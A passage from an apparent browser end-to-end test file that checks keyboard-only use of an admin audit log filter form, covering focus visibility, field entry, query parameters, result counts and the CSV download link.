    assert.deepEqual(problems, [], "console errors or CSP violations");
    await context.close();
  });
}

test("the filter form with the keyboard alone: Tab to each field, type, choose a kind with the arrows, Enter", async () => {
  const { context, page, problems } = await open({ name: "desktop", options: { ...DEVICES[0].options, locale: "en-US" } });
  await signInAs(page, ann);
  await page.goto(w.url + "/admin/audit");
  const active = () =>
    page.evaluate(() => {
      const a = document.activeElement;
      return { id: a.id, tag: a.tagName, text: a.textContent.trim(), outline: getComputedStyle(a).outlineStyle };
    });
  const tabTo = async (check, what) => {
    for (let i = 0; i < 40; i++) {
      const e = await active();
      if (check(e)) return assert.notEqual(e.outline, "none", `focus on ${what} is visible`);
      await page.keyboard.press("Tab");
    }
    assert.fail(`Tab never reached ${what}`);
  };
  await tabTo((e) => e.id === "person", "the person field");
  await page.keyboard.type(carol.email.toUpperCase());
  await page.keyboard.press("Tab");
  await tabTo((e) => e.id === "app", "the app field");
  await page.keyboard.type(made.c1);
  await page.keyboard.press("Tab");
  await tabTo((e) => e.id === "event", "the kind of event");
  const options = await page.locator("#event option").evaluateAll((os) => os.map((o) => o.value));
  for (let i = 0; i < options.indexOf("sign_in"); i++) await page.keyboard.press("ArrowDown");
  assert.equal(await page.locator("#event").inputValue(), "sign_in", "the arrows choose the kind");
  await page.keyboard.press("Tab");
  await tabTo((e) => e.id === "from", "the From day");
  await page.keyboard.type(`01012020`);
  assert.equal(await page.locator("#from").inputValue(), "2020-01-01", "a day typed into the From field");
  await page.keyboard.press("Tab");
  await tabTo((e) => e.id === "to", "the To day");
  await page.keyboard.type(`12312099`);
  assert.equal(await page.locator("#to").inputValue(), "2099-12-31");
  await tabTo((e) => e.tag === "BUTTON" && e.text === "Show", "Show");
  await page.keyboard.press("Enter");
  await page.waitForURL(/event=sign_in/);
  const u = new URL(page.url());
  assert.deepEqual(Object.fromEntries(u.searchParams), { person: carol.email.toUpperCase(), app: made.c1, event: "sign_in", from: "2020-01-01", to: "2099-12-31" });
  await page.getByRole("heading", { level: 1, name: "Audit log" }).waitFor();
  // Sign-ins carry no app: nothing matches all four, and the form keeps what was chosen.
  assert.equal(await page.locator("ol.events > li").count(), 0);
  assert.equal(await page.getByLabel("Person (email)").inputValue(), carol.email);
  assert.equal(await page.getByLabel("Kind of event").inputValue(), "sign_in");
  // Clear the app with the keyboard and press Enter in a field: carol's sign-ins.
  await page.getByLabel("App (client ID)").focus();
  await page.keyboard.press("ControlOrMeta+A");
  await page.keyboard.press("Backspace");
  await page.keyboard.press("Enter");
  await page.waitForURL((url) => url.searchParams.get("app") === "");
  const want = await expected({ person: carol.email, event: "sign_in", from: "2020-01-01", to: "2099-12-31" });
  assert.ok(want.length >= 2);
  assert.equal(await page.locator("ol.events > li").count(), want.length);
  // And on to the downloads and the navigation with Tab.
  await tabTo((e) => e.tag === "A" && e.text === "CSV", "the CSV download");
  assert.deepEqual(problems, []);
  await context.close();
});
